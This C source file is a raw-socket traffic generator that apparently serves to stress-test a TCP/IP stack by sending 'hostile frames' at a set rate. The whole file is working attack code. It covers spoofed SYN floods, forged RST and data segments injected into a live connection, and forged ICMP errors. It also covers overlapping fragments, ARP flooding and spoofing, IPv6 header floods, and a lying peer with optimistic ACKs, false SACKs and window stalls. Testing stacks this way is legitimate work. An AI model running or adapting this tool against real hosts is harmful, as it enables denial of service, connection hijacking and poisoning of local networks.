// Hostile frames at a bounded rate: attacks INTERFACE KIND RATE SECONDS STATION ADDRESS PORT PEER PEER_PORT
//
// STATION and ADDRESS: the receiver of the frames. PORT: its listening port. PEER, PEER_PORT: the other end of a good connection to PORT,
// into which some kinds forge. Says how many frames were sent. Sources are random addresses of ADDRESS's own /24 beyond .99, where
// no host should be. Some kinds open a connection of their own first, from .98 to PORT + 1, whose server should write without end, and lie on
// that: no other stack takes part in it. At most a million frames a second, for a minute.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 32, FRAME_MAX = 1514, TEXT = 64 };

static uint8_t station[6], own_station[6];
static uint32_t target, peer;
static uint16_t port, peer_port;

// The connection of a peer that lies: both ends' next sequence numbers, and the other's time stamp.
static uint32_t own_next, their_next, their_stamp;
static uint16_t own_port;

static uint64_t state = 88172645463325252ull;
static uint32_t draw(void) {
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    return state >> 16;
}

static uint32_t sum(const uint8_t *at, int len, uint32_t total) {
    for (; len > 1; at += 2, len -= 2) total += at[0] << 8 | at[1];
    return len ? total + (at[0] << 8) : total;
}
static uint16_t fold(uint32_t total) {
    while (total >> 16) total = (total & 0xffff) + (total >> 16);
    return htons(~total & 0xffff);
}
static void put16(uint8_t *at, uint16_t value) { at[0] = value >> 8, at[1] = value; }
static void put32(uint8_t *at, uint32_t value) { put16(at, value >> 16), put16(at + 2, value); }

static int ethernet(uint8_t *frame, uint16_t type) {
    memcpy(frame, station, 6), memcpy(frame + 6, own_station, 6), put16(frame + 12, type);
    return 14;
}
static uint32_t nobody(void) { return (target & ~255u) | (100 + draw() % 150); }

// An IPv4 packet whose payload of `len` octets is already in place.
static int packet(uint8_t *frame, uint32_t source, int protocol, int len, int id, int field) {
    uint8_t *ip = frame + ethernet(frame, 0x0800);
    memset(ip, 0, 20);
    ip[0] = 0x45, put16(ip + 2, 20 + len), put16(ip + 4, id), put16(ip + 6, field), ip[8] = 64, ip[9] = protocol;
    put32(ip + 12, source), put32(ip + 16, target);
    uint16_t check = fold(sum(ip, 20, 0));
    memcpy(ip + 10, &check, 2);
    return 34 + len;
}
// What of a segment is not always the same: options, and the window.
static uint8_t other_options[40];
static int other_len, window = 64240;
static int segment(uint8_t *frame, uint32_t source, int from, int to, uint32_t seq, uint32_t ack, int flags, int options, int text) {
    static const uint8_t usual[] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
    static const uint8_t stamps[] = {1, 1, 8, 10, 0, 0, 0, 1, 0, 0, 0, 1};
    uint8_t *tcp = frame + 34;
    int extra = options == 1 ? sizeof usual : options == 2 ? sizeof stamps : options == 3 ? 40 : options == 4 ? other_len : 0, len = 20 + extra + text;
    memset(tcp, 0, len);
    put16(tcp, from), put16(tcp + 2, to), put32(tcp + 4, seq), put32(tcp + 8, ack);
    tcp[12] = (20 + extra) / 4 << 4, tcp[13] = flags, put16(tcp + 14, window);
    if (options == 1) memcpy(tcp + 20, usual, sizeof usual);
    if (options == 2) memcpy(tcp + 20, stamps, sizeof stamps);
    if (options == 4) memcpy(tcp + 20, other_options, other_len);
    // As many options as there is room for, of an unknown kind.
    for (int at = 20; options == 3 && at < 60; at += 2) tcp[at] = 253, tcp[at + 1] = 2;
    uint32_t pseudo = (source >> 16) + (source & 0xffff) + (target >> 16) + (target & 0xffff) + 6 + len;
    uint16_t check = fold(sum(tcp, len, pseudo));
    memcpy(tcp + 16, &check, 2);
    return packet(frame, source, 6, len, 0, 0x4000);
}
static int icmp(uint8_t *frame, uint32_t source, int type, int code, uint32_t rest, int len) {
    uint8_t *at = frame + 34;
    at[0] = type, at[1] = code, at[2] = at[3] = 0, put32(at + 4, rest);
    uint16_t check = fold(sum(at, len, 0));
    memcpy(at + 2, &check, 2);
    return packet(frame, source, 1, len, 0, 0);
}
// An error about a segment of the good connection.
static int error(uint8_t *frame, int code, uint32_t rest) {
    uint8_t *quoted = frame + 42;
    memset(quoted, 0, 28);
    quoted[0] = 0x45, put16(quoted + 2, 1500), put16(quoted + 6, 0x4000), quoted[8] = 64, quoted[9] = 6;
    put32(quoted + 12, target), put32(quoted + 16, peer);
    uint16_t check = fold(sum(quoted, 20, 0));
    memcpy(quoted + 10, &check, 2);
    put16(quoted + 20, port), put16(quoted + 22, peer_port), put32(quoted + 24, draw());
    return icmp(frame, nobody(), 3, code, rest, 36);
}
static int arp(uint8_t *frame, int operation, uint32_t source, int random_station) {
    uint8_t *at = frame + ethernet(frame, 0x0806);
    put16(at, 1), put16(at + 2, 0x800), at[4] = 6, at[5] = 4, put16(at + 6, operation);
    memcpy(at + 8, own_station, 6);
    if (random_station) put32(at + 10, draw()), at[8] = 2;
    put32(at + 14, source), memcpy(at + 18, station, 6), put32(at + 24, target);
    return 42;
}

static int syn(uint8_t *f) { return segment(f, nobody(), 1024 + draw() % 60000, port, draw(), 0, 2, 1, 0); }
static int syn_closed(uint8_t *f) { return segment(f, nobody(), 1024 + draw() % 60000, 9, draw(), 0, 2, 1, 0); }
static int syn_open(uint8_t *f) { return segment(f, peer, peer_port, port, draw(), 0, 2, 1, 0); }
static int rst_open(uint8_t *f) { return segment(f, peer, peer_port, port, draw(), 0, 4, 0, 0); }
static int text_open(uint8_t *f) { return segment(f, peer, peer_port, port, draw(), draw(), 16, 2, TEXT); }
static int ack_none(uint8_t *f) { return segment(f, nobody(), 1024 + draw() % 60000, port, draw(), draw(), 16, 2, 0); }
static int options(uint8_t *f) { return segment(f, nobody(), 1024 + draw() % 60000, port, draw(), 0, 2, 3, 0); }
static int too_big(uint8_t *f) { return error(f, 4, 576); }
static int unreachable(uint8_t *f) { return error(f, 3, 0); }
static int echo(uint8_t *f) { memset(f + 42, 0, 56); return icmp(f, nobody(), 8, 0, draw(), 64); }
static int echo_peer(uint8_t *f) { memset(f + 42, 0, 56); return icmp(f, peer, 8, 0, draw(), 64); }
static int udp_closed(uint8_t *f) {
    uint8_t *at = f + 34;
    memset(at, 0, 8 + TEXT), put16(at, draw()), put16(at + 2, 9), put16(at + 4, 8 + TEXT);
    return packet(f, nobody(), 17, 8 + TEXT, 0, 0);
}
static int fragment(uint8_t *f) { memset(f + 34, 0, 1480); return packet(f, nobody(), 17, 1480, draw(), 0x2000); }
static int small_fragment(uint8_t *f) { memset(f + 34, 0, 24); return packet(f, nobody(), 17, 24, draw(), 0x2000 | (1 + draw() % 100)); }
static int one_source(uint8_t *f) { memset(f + 34, 0, 64); return packet(f, (target & ~255u) | 99, 17, 64, draw(), 0x2000); }
static int overlap(uint8_t *f) {
    static uint32_t source, id, n;
    if (n++ % 2 == 0) source = nobody(), id = draw();
    memset(f + 34, 0, 800);
    return packet(f, source, 17, 800, id, 0x2000 | (n % 2 ? 0 : 99));
}
static int tiny(uint8_t *f) { memset(f + 34, 0, 16); return packet(f, nobody(), 6, 16, draw(), 0x2000); }
static int igmp(uint8_t *f) {
    uint8_t *at = f + 34;
    memset(at, 0, 8), at[0] = 0x11, at[1] = 100;
    uint16_t check = fold(sum(at, 8, 0));
    memcpy(at + 2, &check, 2);
    return packet(f, nobody(), 2, 8, 0, 0);
}
static int arp_flood(uint8_t *f) { return arp(f, 1, (target & ~255u) | (100 + draw() % 150), 1); }
static int arp_lie(uint8_t *f) { return arp(f, 1 + draw() % 2, peer, 1); }
// Neighbour discovery and extension headers for the stack's link-local address, which its station gives (RFC 4291, appendix A).
static int packet6(uint8_t *f, int next, int len, int hops) {
    uint8_t *ip = f + ethernet(f, 0x86dd);
    memset(ip, 0, 40);
    ip[0] = 0x60, put16(ip + 4, len), ip[6] = next, ip[7] = hops;
    put16(ip + 8, 0xfe80), put32(ip + 16, 0x02000000), put32(ip + 20, draw());
    put16(ip + 24, 0xfe80);
    memcpy(ip + 32, (uint8_t[]){station[0] ^ 2, station[1], station[2], 0xff, 0xfe, station[3], station[4], station[5]}, 8);
    return 54 + len;
}
static int headers6(uint8_t *f) {
    // Destination options of eight octets, one behind the other.
    for (int n = 0; n < 100; n++) memcpy(f + 54 + 8 * n, (uint8_t[]){60, 0, 1, 4, 0, 0, 0, 0}, 8);
    return packet6(f, 60, 800, 64);
}
static int solicit6(uint8_t *f) {
    uint8_t *at = f + 54;
    packet6(f, 58, 32, 255);
    memset(at, 0, 32), at[0] = 135, memcpy(at + 8, f + 38, 16);
    at[24] = 1, at[25] = 1, at[26] = 2, put32(at + 27, draw());
    uint16_t check = fold(sum(at, 32, sum(f + 22, 32, 58 + 32)));
    memcpy(at + 2, &check, 2);
    return 86;
}
static int fragment6(uint8_t *f) {
    memset(f + 54, 0, 1008);
    f[54] = 17, put16(f + 56, 1), put32(f + 58, draw());
    return packet6(f, 44, 1008, 64);
}
// Lies of a peer.
static uint32_t liar(void) { return (target & ~255u) | 98; }
// A segment of its connection, `ack` octets beyond what it has acknowledged, with `blocks` SACK blocks, which are behind the stamps already.
static int lie(uint8_t *f, uint32_t at, uint32_t ack, int open, int blocks, int text) {
    static const uint8_t stamps[] = {1, 1, 8, 10, 0, 0, 0, 1};
    memcpy(other_options, stamps, sizeof stamps), put32(other_options + 8, their_stamp), other_len = 12;
    if (blocks) memcpy(other_options + 12, (uint8_t[]){1, 1, 5, 2 + 8 * blocks}, 4), other_len += 4 + 8 * blocks;
    window = open;
    int len = segment(f, liar(), own_port, port + 1, own_next + at, their_next + ack, 16, 4, text);
    window = 64240;
    return len;
}
static void block(int n, uint32_t left, uint32_t right) {
    put32(other_options + 16 + 8 * n, their_next + left), put32(other_options + 20 + 8 * n, their_next + right);
}
enum { OPEN = 500, FLIGHT = 10 * 1448 };
static int ack_unsent(uint8_t *f) { return lie(f, 0, (1 << 20) + draw() % (1 << 20), OPEN, 0, 0); }
static int ack_again(uint8_t *f) { return lie(f, 0, 0, OPEN, 0, 0); }
static int ack_octets(uint8_t *f) { static uint32_t n; return lie(f, 0, ++n, OPEN, 0, 0); }
static int sack_false(uint8_t *f) {
    // Of what was never sent; backwards; of what was acknowledged long ago.
    uint32_t at = (1 << 20) + draw() % (1 << 20);
    block(0, at, at + 1448), block(1, 2896 + draw() % 1448, 1448), block(2, -at, -at + 1448);
    return lie(f, 0, 0, OPEN, 3, 0);
}
static int sack_tiny(uint8_t *f) {
    for (int n = 0; n < 3; n++) { uint32_t at = 1 + draw() % (FLIGHT - 2); block(n, at, at + 1); }
    return lie(f, 0, 0, OPEN, 3, 0);
}
static int holes(uint8_t *f) { return lie(f, 1 + 2 * (draw() % 16000), 0, OPEN, 0, 1); }
static int window_shut(uint8_t *f) { return lie(f, 0, 0, 0, 0, 0); }
static int window_flaps(uint8_t *f) { static int n; return lie(f, 0, 0, n++ % 2 ? OPEN : 0, 0, 0); }

// Frames that no stack reads: they show what sending and receiving cost.
static int nothing(uint8_t *f) { memset(f + 14, 0, 50); return ethernet(f, 0x88b5) + 50; }

static const struct { const char *name; int (*make)(uint8_t *); } kinds[] = {
    {"nothing", nothing}, {"syn", syn}, {"syn-closed", syn_closed}, {"syn-open", syn_open}, {"rst-open", rst_open},
    {"text-open", text_open}, {"ack-none", ack_none}, {"options", options}, {"too-big", too_big}, {"unreachable", unreachable},
    {"echo", echo}, {"echo-peer", echo_peer}, {"udp-closed", udp_closed}, {"fragment", fragment}, {"small-fragment", small_fragment},
    {"one-source", one_source}, {"overlap", overlap}, {"tiny", tiny}, {"igmp", igmp}, {"arp-flood", arp_flood},
    {"arp-lie", arp_lie}, {"headers6", headers6}, {"solicit6", solicit6}, {"fragment6", fragment6},
    {"ack-unsent", ack_unsent}, {"ack-again", ack_again}, {"ack-octets", ack_octets}, {"sack-false", sack_false},
    {"sack-tiny", sack_tiny}, {"holes", holes}, {"window-shut", window_shut}, {"window-flaps", window_flaps},
};
// From here on they are of a peer.
static const char *first_of_peer = "ack-unsent";

static double seconds_now(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec + now.tv_nsec * 1e-9;
}

// Opens a socket that receives one protocol of the interface.
static int hear(int index, int protocol) {
    struct sockaddr_ll from = {.sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_ifindex = index};
    int heard = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, 0);
    if (heard < 0 || bind(heard, (void *)&from, sizeof from)) perror("AF_PACKET"), exit(1);
    return heard;
}
// Answers requests for the liar's station, so that frames to it go where no host takes them.
static void answer(int raw, int heard) {
    uint8_t frame[FRAME_MAX], reply[FRAME_MAX];
    while (recv(heard, frame, sizeof frame, 0) >= 42) {
        uint8_t asked[4];
        put32(asked, liar());
        if (frame[21] == 1 && !memcmp(frame + 38, asked, 4)) send(raw, reply, arp(reply, 2, liar(), 0), 0);
    }
}
// Opens the connection of a peer that lies.
static void open_connection(int raw, int index, int arps) {
    uint8_t frame[FRAME_MAX];
    int packets = hear(index, ETH_P_IP);
    own_port = 20000 + (getpid() * 7 + time(NULL)) % 40000, own_next = getpid() * 65537u;
    send(raw, frame, arp(frame, 1, liar(), 0), 0);
    for (int tries = 0; tries < 2000; tries++) {
        if (tries % 500 == 0) send(raw, frame, segment(frame, liar(), own_port, port + 1, own_next, 0, 2, 1, 0), 0);
        usleep(1000), answer(raw, arps);
        while (recv(packets, frame, sizeof frame, 0) >= 66) {
            uint8_t *tcp = frame + 34;
            uint16_t to = tcp[2] << 8 | tcp[3];
            if (frame[23] != 6 || to != own_port || (tcp[13] & 18) != 18) continue;
            uint32_t words[2];
            memcpy(words, tcp + 4, 4), their_next = ntohl(words[0]) + 1, own_next++;
            for (uint8_t *at = tcp + 20; at < tcp + (tcp[12] >> 4) * 4 - 9; at += *at == 1 ? 1 : at[1] ? at[1] : 40)
                if (*at == 8) memcpy(words, at + 2, 4), their_stamp = ntohl(words[0]);
            send(raw, frame, lie(frame, 0, 0, OPEN, 0, 0), 0);
            // Time for the first flight.
            usleep(20000), close(packets);
            return;
        }
    }
    fprintf(stderr, "no connection\n"), exit(1);
}

int main(int argc, char **argv) {
    if (argc == 2 && !strcmp(argv[1], "kinds")) {
        for (size_t n = 0; n < sizeof kinds / sizeof *kinds; n++) puts(kinds[n].name);
        return 0;
    }
    if (argc != 10) return fprintf(stderr, "usage: see the source\n"), 2;
    int (*make)(uint8_t *) = NULL;
    for (size_t n = 0; n < sizeof kinds / sizeof *kinds; n++) if (!strcmp(kinds[n].name, argv[2])) make = kinds[n].make;
    double rate = atof(argv[3]), limit = atof(argv[4]);
    if (!make || rate < 1 || rate > 1e6 || limit <= 0 || limit > 60) return fprintf(stderr, "no such kind, rate or time\n"), 2;
    sscanf(argv[5], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", station, station + 1, station + 2, station + 3, station + 4, station + 5);
    struct in_addr address;
    inet_aton(argv[6], &address), target = ntohl(address.s_addr);
    port = atoi(argv[7]);
    inet_aton(argv[8], &address), peer = ntohl(address.s_addr);
    peer_port = atoi(argv[9]);

    int raw = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1])};
    struct ifreq request = {0};
    strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (raw < 0 || bind(raw, (void *)&to, sizeof to) || ioctl(raw, SIOCGIFHWADDR, &request)) return perror(argv[1]), 1;
    memcpy(own_station, request.ifr_hwaddr.sa_data, 6);

    int lies = 0, arps = hear(to.sll_ifindex, ETH_P_ARP);
    for (size_t n = 0, of_peer = 0; n < sizeof kinds / sizeof *kinds; n++) {
        of_peer |= !strcmp(kinds[n].name, first_of_peer);
        lies |= of_peer && make == kinds[n].make;
    }
    if (lies) open_connection(raw, to.sll_ifindex, arps);

    static uint8_t frames[BATCH][FRAME_MAX];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    for (int n = 0; n < BATCH; n++) {
        parts[n].iov_base = frames[n];
        messages[n].msg_hdr.msg_iov = parts + n, messages[n].msg_hdr.msg_iovlen = 1;
    }
    double start = seconds_now(), elapsed;
    uint64_t sent = 0, lost = 0;
    while ((elapsed = seconds_now() - start) < limit) {
        // What could not be sent in time is not made up for by more than a hundredth of a second.
        uint64_t due = elapsed * rate;
        if (due > sent + lost + rate / 100) lost = due - sent - (uint64_t)(rate / 100);
        int count = due - sent - lost < BATCH ? (int)(due - sent - lost) : BATCH;
        if (count < BATCH / 2) {
            usleep(200);
            continue;
        }
        if (lies && sent % 1024 < BATCH) answer(raw, arps);
        for (int n = 0; n < count; n++) parts[n].iov_len = make(frames[n]);
        int done = sendmmsg(raw, messages, count, 0);
        if (done < 0 && errno != ENOBUFS && errno != EAGAIN) return perror("sendmmsg"), 1;
        sent += done > 0 ? done : 0;
    }
    // The connection is reset, so that it costs the next measurement nothing.
    if (lies) send(raw, frames[0], segment(frames[0], liar(), own_port, port + 1, own_next, 0, 4, 0, 0), 0);
    printf("sent %llu\n", (unsigned long long)sent);
    return 0;
}
